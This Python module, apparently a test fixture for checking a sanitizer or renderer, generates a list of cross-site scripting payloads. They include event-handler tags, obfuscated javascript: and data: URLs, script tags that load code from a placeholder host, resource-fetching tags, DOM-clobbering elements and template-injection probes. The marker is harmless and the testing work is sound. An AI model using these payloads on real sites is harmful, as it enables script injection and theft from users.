"""Two hundred ways to make a page run what somebody wrote; each would set `window.ran` or call out.

Ours: what to run, times the places where browsers have been known to run it.
"""

# ruff: noqa: E501 - they read best side by side

from __future__ import annotations

RUN = "window.ran=1"
ELSEWHERE = "http://elsewhere.invalid"

_EVENTS = ("onload", "onerror", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onpointerenter",
           "onwheel", "onbegin")  # fmt: skip
_ELEMENTS = ("img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "audio src=x", "iframe src=x",
             "object data=x", "a href=x tabindex=0 autofocus", "marquee", "style")  # fmt: skip
_CLOSERS = ("", '"', "'", "`", "-->", "</title>", "</textarea>", "</style>", "</script>", "]]>")
_SCHEMES = ("javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "\x01javascript:",
            "javascript&colon;", "javascript&#58;", "&#106;avascript:", "vbscript:", "data:text/html,<script>",
            "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuPTE8L3NjcmlwdD4=", "view-source:javascript:")  # fmt: skip
_SCRIPTS = ("<script>{run}</script>", "<ScRiPt>{run}</sCrIpT>", "<script src={url}/x.js></script>", "<script\n>{run}</script\n>",
            "<<script>{run}//<</script>", "<script/x>{run}</script>", "<svg><script>{run}</script></svg>",
            "<svg><script href={url}/x.js /></svg>", "<math><mtext><script>{run}</script></mtext></math>",
            "<noscript><p title='</noscript><img src=x onerror={run}>'>", "<template><script>{run}</script></template>",
            "&lt;script&gt;{run}&lt;/script&gt;", "\\u003cscript\\u003e{run}\\u003c/script\\u003e", "%3Cscript%3E{run}%3C/script%3E",
            "＜script＞{run}＜/script＞", "<scr\u200bipt>{run}</scr\u200bipt>")  # fmt: skip
_CALLS = ("<img src={url}/a.png>", "<link rel=stylesheet href={url}/a.css>", "<iframe src={url}></iframe>",
          "<object data={url}></object>", "<embed src={url}>", "<base href={url}>", "<form action={url}><input type=submit autofocus>",
          "<meta http-equiv=refresh content='0;url={url}'>", "<video poster={url}/a.png>", "<style>@import '{url}/a.css';</style>",
          "<div style='background:url({url}/a.png)'>", "![x]({url}/a.png)", "[x]({url}/a.png \"t\" onclick={run})",
          "<image href={url}/a.png>", "<picture><source srcset={url}/a.png></picture>", "<link rel=prefetch href={url}/p>",
          "<link rel=dns-prefetch href={url}>", "<a ping={url} href=x autofocus>x</a>", "<track src={url}/a.vtt>",
          "<input type=image src={url}/a.png>")  # fmt: skip
_CLOBBER = ("<form name=body>", "<img name=cookie>", "<a id=app>", "<form id=conversation><input name=action>",
            "<iframe name=parent>", "<img id=getElementById name=getElementById>")  # fmt: skip
_TEMPLATES = ("{{{{constructor.constructor('{run}')()}}}}", "{{% raw %}}{run}{{% endraw %}}", "${{{run}}}", "#{{{run}}}",
              "{{{{config}}}}", "<%= {run} %>", "{{{{7*7}}}}", "__proto__[ran]=1", "{{{{''.__class__}}}}")  # fmt: skip


def payloads() -> list[str]:
    """Give all of them, each once."""
    made = [f"<{element} {event}={RUN}>" for element in _ELEMENTS for event in _EVENTS]
    made += [f"{closer}<img src=x onerror={RUN}>" for closer in _CLOSERS]
    made += [f"{closer}><svg onload={RUN}>" for closer in _CLOSERS]
    made += [f"{closer} autofocus onfocus={RUN} x={closer}" for closer in _CLOSERS[1:4]]
    made += [f"[press me]({scheme}{RUN})" for scheme in _SCHEMES]
    made += [f"<a href='{scheme}{RUN}' autofocus>press me</a>" for scheme in _SCHEMES]
    made += [f"{scheme}{RUN}" for scheme in _SCHEMES]
    for group in (_SCRIPTS, _CALLS, _TEMPLATES):
        made += [text.format(run=RUN, url=ELSEWHERE) for text in group]
    made += _CLOBBER
    return list(dict.fromkeys(made))
